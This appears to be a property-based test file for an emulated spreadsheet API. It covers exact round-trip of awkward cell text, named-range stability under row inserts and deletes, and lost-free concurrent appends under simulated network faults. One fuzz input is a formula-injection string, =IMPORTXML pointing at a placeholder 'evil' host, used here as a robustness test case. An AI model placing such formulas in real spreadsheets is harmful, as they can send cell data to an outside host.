import fc from "fast-check";
import { afterEach, beforeEach, expect, test } from "vitest";
import { type Sheets, startSheets } from "./sheets/start-sheets.ts";
import { ask, batch, row, values } from "./sheets/testing/ask.ts";

let sheets: Sheets;
beforeEach(async () => {
  sheets = await startSheets({ quotas: false });
});
afterEach(() => sheets.close());

const awkward = fc.constantFrom(
  '=IMPORTXML("http://evil")',
  "+1 555",
  "007",
  "1-2",
  "TRUE",
  "'x",
  "a\nb",
  "\u0000",
  "👩‍👧",
  "\ud800",
);
const text = fc.oneof(awkward, fc.string({ unit: "binary", minLength: 1 }));

test("any text of a stringValue comes back unit for unit, in every rendering", async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(text, { minLength: 1, maxLength: 5 }), async (texts) => {
      const start = { sheetId: 0, rowIndex: 0, columnIndex: 0 };
      const clear = { updateCells: { range: { sheetId: 0 }, fields: "userEnteredValue" } };
      await batch(sheets, [
        clear,
        { updateCells: { start, rows: [row(...texts)], fields: "userEnteredValue" } },
      ]);
      for (const valueRenderOption of ["FORMATTED_VALUE", "UNFORMATTED_VALUE", "FORMULA"]) {
        const { body } = await ask(sheets, values(sheets, "Sheet1!A1:E1", { valueRenderOption }));
        expect(body.values).toEqual([texts]);
      }
    }),
    { numRuns: 30 },
  );
});

const change = fc.record({
  kind: fc.constantFrom("insertDimension", "deleteDimension"),
  startIndex: fc.nat(11),
  count: fc.integer({ min: 1, max: 3 }),
});

test("a range keeps the rows that it had, those that were put in between, and no others", () => {
  fc.assert(
    fc.property(
      fc.array(change, { maxLength: 6 }),
      fc.nat(9),
      fc.integer({ min: 1, max: 4 }),
      (changes, start, size) => {
        const names = Array.from({ length: 14 }, (_, index) => `row ${index}`);
        const kept = new Set(names.slice(start, start + size));
        const ask = (request: object) => sheets.control.ask({ requests: [{ ...request }] });
        const book = () => sheets.live.book();
        ask({ updateCells: { range: { sheetId: 0 }, fields: "*", rows: names.map((name) => row(name)) } });
        for (const { namedRangeId } of book().namedRanges) ask({ deleteNamedRange: { namedRangeId } });
        const range = { sheetId: 0, startRowIndex: start, endRowIndex: start + size };
        ask({ addNamedRange: { namedRange: { name: "Kept", range } } });
        for (const { kind, startIndex, count } of changes)
          ask({
            [kind]: { range: { sheetId: 0, dimension: "ROWS", startIndex, endIndex: startIndex + count } },
          });
        const now = book().sheets[0]?.rows.map(({ cells }) => cells[0]?.userEnteredValue?.stringValue) ?? [];
        const { startRowIndex = 0, endRowIndex = 0 } = book().namedRanges[0]?.range ?? {};
        const inside = now.slice(startRowIndex, endRowIndex).filter((name) => name !== undefined);
        expect(inside).toEqual(now.filter((name) => name !== undefined && kept.has(name)));
      },
    ),
    { numRuns: 200 },
  );
});

test("writers that read head and rows at once and then compare and append lose and double nothing, in a storm and with a person who sorts", async () => {
  const keys = Array.from({ length: 12 }, (_, writer) => `key ${writer}`);
  sheets.control.storm({
    seed: 5,
    chances: { lost: 0.15, reset: 0.1, "503-after": 0.1, "500-before": 0.1, "429": 0.05, stale: 0.2 },
    commits: 2,
  });
  const range = { sheetId: 0, startRowIndex: 0, endRowIndex: 1, startColumnIndex: 0, endColumnIndex: 1 };
  const fields = "namedRanges.name,sheets.data.rowData.values.formattedValue";
  // One answer shows one moment: a stale one has a stale head, and is refused.
  const look = async () => {
    const { status, body } = await ask(sheets, `${sheets.spreadsheet}?ranges=Sheet1!A:A&fields=${fields}`);
    if (status !== 200) return null;
    const names: readonly { readonly name: string }[] = body.namedRanges ?? [];
    return {
      head: Math.max(0, ...names.map(({ name }) => Number(name.slice("HEAD_".length)))),
      text: JSON.stringify(body.sheets[0].data),
    };
  };
  const write = async (key: string): Promise<void> => {
    for (let attempt = 0; attempt < 300; attempt++) {
      const seen = await look().catch(() => null);
      if (!seen) continue;
      if (seen.text.includes(`"${key}"`)) return;
      sheets.control.sort({ tab: "Sheet1", column: "A", descending: attempt % 2 === 0 });
      const done = await batch(sheets, [
        { addNamedRange: { namedRange: { name: `HEAD_${seen.head + 1}`, range } } },
        { appendCells: { sheetId: 0, rows: [row(key)], fields: "userEnteredValue" } },
      ]).catch(() => null);
      if (done?.status === 200) return;
    }
    throw new Error(`${key} was never written`);
  };
  await Promise.all(keys.map(write));
  expect(sheets.control.rows({ tab: "Sheet1" }).flat().sort()).toEqual([...keys].sort());
});
